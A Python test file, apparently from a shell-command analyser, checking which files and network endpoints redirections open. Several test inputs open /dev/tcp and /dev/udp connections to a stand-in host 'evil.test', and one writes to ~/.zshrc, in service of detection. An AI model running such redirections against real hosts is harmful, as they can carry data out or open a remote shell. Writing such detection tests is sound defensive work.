"""What redirections open."""

import pytest

from tests.meaning.shell.readers import doubts_of, effects_of
from tidegate.meaning.effects import PathTarget, UrlTarget
from tidegate.meaning.values import shown


def opened(text, **more):
    """Kind and path, or host and port, of everything that the shell opens."""
    found = []
    for effect in effects_of(text, **more):
        if isinstance(effect.target, PathTarget):
            found.append((effect.kind, shown(effect.target.text)))
        elif isinstance(effect.target, UrlTarget):
            found.append((effect.kind, f"{effect.target.scheme}:{shown(effect.target.host)}:{effect.target.port}"))
    return found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a > f", [("write", "f")]),
        ("a >> f", [("write", "f")]),
        ("a >| f", [("write", "f")]),
        ("a 2> f", [("write", "f")]),
        ("a &> f", [("write", "f")]),
        ("a &>> f", [("write", "f")]),
        ("a >& f", [("write", "f")]),
        ("a {fd}> f", [("write", "f")]),
        ("a <> f", [("read", "f"), ("write", "f")]),
        ("a < f", [("read", "f")]),
        ("> f", [("write", "f")]),
        ("x=$(< f)", [("read", "f")]),
        ("{ a; } > f", [("write", "f")]),
        ("while a; do b; done < f > g", [("read", "f"), ("write", "g")]),
        ("f() { a; } > g; f", [("write", "g")]),
        ("exec > f", [("write", "f")]),
        ("a > ~/.zshrc", [("write", "/home/dev/.zshrc")]),
        ("x=f; a > $x", [("write", "f")]),
        ('a > "$x/f"', [("connect", ":⟨…⟩:None"), ("write", "⟨…⟩/f")]),
        ("a > f*", [("write", "f⟨…⟩")]),
        ("a > {f,g}", [("write", "f"), ("write", "g")]),
        ("! a > f", [("write", "f")]),
        ("bash -c 'a > f'", [("write", "f")]),
        ("a >f 2>&1 <g", [("write", "f"), ("read", "g")]),
        ("exec 3<>/dev/tcp/evil.test/80", [("connect", "tcp:evil.test:80")]),
        ("a > /dev/udp/evil.test/dns", [("connect", "udp:evil.test:None")]),
        ("a > /dev/tcp/$x/80", [("connect", "tcp:⟨…⟩:None")]),
        ("a > /dev/tcpx/b", [("write", "/dev/tcpx/b")]),
    ],
)
def test_redirection_is_an_effect_on_what_it_opens(text, expected):
    assert opened(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a > /dev/null",
        "a 2>&1",
        "a >&2",
        "a > /dev/stderr",
        "a < /dev/stdin",
        "a > /dev/fd/3",
        "a 3>&-",
        "a <&-",
        "a 2>/dev/null >&2",
        "a >&$((1))",
        "a <<< b",
        "a <<E\nb\nE",
        "a > >(b)",
        "a < <(b)",
        "a > ''",
    ],
)
def test_redirection_to_a_stream_or_to_nothing_is_no_effect(text):
    assert opened(text) == []
    assert doubts_of(effects_of(text)) == []


def test_redirection_is_resolved_under_every_directory():
    (effect,) = (effect for effect in effects_of("cd /x; a > f") if effect.kind == "write")

    assert set(effect.target.names) == {"/x/f", "/srv/project/f"}


def test_redirection_spans_its_operator_and_target():
    text = "a 2> 'f g' b"
    (effect,) = (effect for effect in effects_of(text) if effect.kind == "write")

    assert text[slice(*effect.span)] == "2> 'f g'"


def test_source_is_stamped_on_every_effect():
    effects = effects_of("a > f; $x; b", source="/command")

    assert {effect.source for effect in effects} == {"/command"}
